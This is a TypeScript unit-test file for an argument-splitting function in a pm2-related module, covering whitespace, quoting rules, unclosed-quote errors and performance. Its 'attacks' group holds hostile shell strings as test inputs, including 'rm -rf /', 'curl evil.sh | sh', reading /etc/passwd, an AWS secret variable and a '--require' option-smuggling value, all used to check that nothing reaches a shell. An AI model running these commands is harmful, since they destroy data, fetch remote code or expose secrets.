import { test } from 'node:test';
import assert from 'node:assert/strict';
import { splitArgs } from '../../src/pm2/split-args.js';

interface Case {
  name: string;
  input: string;
  expected: string[];
}

const whitespace: Case[] = [
  { name: 'empty string', input: '', expected: [] },
  { name: 'only spaces', input: '   ', expected: [] },
  { name: 'one word', input: 'serve', expected: ['serve'] },
  { name: 'spaces', input: 'a b c', expected: ['a', 'b', 'c'] },
  { name: 'runs of spaces, leading and trailing', input: '  a   b  ', expected: ['a', 'b'] },
  { name: 'tabs', input: 'a\tb\t\tc', expected: ['a', 'b', 'c'] },
  { name: 'newlines and CR', input: 'a\nb\r\nc', expected: ['a', 'b', 'c'] },
  { name: 'flags and values', input: '--port 3000 --host=127.0.0.1 -v', expected: ['--port', '3000', '--host=127.0.0.1', '-v'] },
  { name: 'unicode words', input: 'café 日本 🙂', expected: ['café', '日本', '🙂'] },
];

const quoting: Case[] = [
  { name: 'double quotes group', input: '"a b" c', expected: ['a b', 'c'] },
  { name: 'single quotes group', input: "'a b' c", expected: ['a b', 'c'] },
  { name: 'quotes inside a word join it', input: 'pre"mid dle"post', expected: ['premid dlepost'] },
  { name: 'adjacent quoted parts make one word', input: `"a"'b'c`, expected: ['abc'] },
  { name: 'single quote inside double quotes', input: `"it's"`, expected: ["it's"] },
  { name: 'double quote inside single quotes', input: `'say "hi"'`, expected: ['say "hi"'] },
  { name: 'escaped double quote inside double quotes', input: '"say \\"hi\\""', expected: ['say "hi"'] },
  { name: 'escaped backslash inside double quotes', input: '"a\\\\b"', expected: ['a\\b'] },
  { name: 'backslash is literal inside single quotes', input: "'a\\b'", expected: ['a\\b'] },
  { name: 'shell idiom for a single quote in single quotes', input: "'it'\\''s'", expected: ["it's"] },
  { name: 'escaped space outside quotes', input: 'a\\ b c', expected: ['a b', 'c'] },
  { name: 'escaped quote outside quotes', input: '\\"a b', expected: ['"a', 'b'] },
  { name: 'trailing backslash kept', input: 'abc\\', expected: ['abc\\'] },
  { name: 'empty double quotes: an empty word', input: '""', expected: [''] },
  { name: 'empty single quotes: an empty word', input: "''", expected: [''] },
  { name: 'empty words between words', input: 'a "" b \'\' c', expected: ['a', '', 'b', '', 'c'] },
  { name: 'spaces and tabs kept inside quotes', input: '"  a\tb  "', expected: ['  a\tb  '] },
  { name: 'newline kept inside quotes', input: "'line1\nline2'", expected: ['line1\nline2'] },
];

// No shell: metacharacters are plain characters of plain words, never operators.
const attacks: Case[] = [
  { name: 'command separator', input: '; rm -rf /', expected: [';', 'rm', '-rf', '/'] },
  { name: 'separator glued to a word', input: 'x;rm -rf /', expected: ['x;rm', '-rf', '/'] },
  { name: 'command substitution', input: '$(id)', expected: ['$(id)'] },
  { name: 'command substitution in double quotes', input: '"$(id)"', expected: ['$(id)'] },
  { name: 'backticks', input: '`id`', expected: ['`id`'] },
  { name: 'backticks in double quotes', input: '"`cat /etc/passwd`"', expected: ['`cat /etc/passwd`'] },
  { name: 'and-list', input: 'a && curl evil.sh | sh', expected: ['a', '&&', 'curl', 'evil.sh', '|', 'sh'] },
  { name: 'or-list', input: 'a||b', expected: ['a||b'] },
  { name: 'redirections', input: '> /etc/passwd 2>&1 < /dev/null', expected: ['>', '/etc/passwd', '2>&1', '<', '/dev/null'] },
  { name: 'variables are not expanded', input: '$HOME ${PATH} $AWS_SECRET_ACCESS_KEY', expected: ['$HOME', '${PATH}', '$AWS_SECRET_ACCESS_KEY'] },
  { name: 'globs are not expanded', input: '*.js ~ ? [ab]', expected: ['*.js', '~', '?', '[ab]'] },
  { name: 'background and subshell', input: '(sleep 1) &', expected: ['(sleep', '1)', '&'] },
  { name: 'a newline does not start a new command', input: 'ok\nrm -rf /', expected: ['ok', 'rm', '-rf', '/'] },
  { name: 'option smuggling stays one word', input: '"--require=/tmp/evil.js --inspect"', expected: ['--require=/tmp/evil.js --inspect'] },
  { name: 'NUL kept literally (checked elsewhere)', input: 'a\0b', expected: ['a\0b'] },
];

for (const [group, cases] of [['white space', whitespace], ['quotes', quoting], ['shell metacharacters', attacks]] as const) {
  test(`splitArgs: ${group}`, () => {
    for (const c of cases) assert.deepEqual(splitArgs(c.input), c.expected, `${c.name}: ${JSON.stringify(c.input)}`);
  });
}

test('splitArgs: unclosed quotes throw, naming the quote', () => {
  const cases: { name: string; input: string; expected: string }[] = [
    { name: 'unclosed double', input: '"abc', expected: 'unclosed " in arguments' },
    { name: 'unclosed single', input: "'abc", expected: "unclosed ' in arguments" },
    { name: 'unclosed after words', input: 'a b "c d', expected: 'unclosed " in arguments' },
    { name: 'closing quote escaped', input: '"abc\\"', expected: 'unclosed " in arguments' },
    { name: 'lone double quote', input: '"', expected: 'unclosed " in arguments' },
    { name: 'lone single quote', input: "'", expected: "unclosed ' in arguments" },
    { name: 'mismatched quotes', input: `"abc'`, expected: 'unclosed " in arguments' },
    { name: 'odd number of quotes', input: `"a" "b`, expected: 'unclosed " in arguments' },
  ];
  for (const c of cases) assert.throws(() => splitArgs(c.input), { message: c.expected }, c.name);
});

test('splitArgs: a long argument string splits in linear time', () => {
  const input = 'ab '.repeat(100_000);
  const words = splitArgs(input);
  assert.equal(words.length, 100_000);
  assert.equal(words[99_999], 'ab');
});

// POSIX sh keeps a backslash inside double quotes unless it precedes $ ` " \ or a newline, so
// "C:\dir" stays C:\dir. splitArgs drops every backslash inside double quotes.
test('splitArgs: a backslash before an ordinary character inside double quotes is kept', () => {
  assert.deepEqual(splitArgs('"C:\\dir" "a\\nb"'), ['C:\\dir', 'a\\nb']);
});
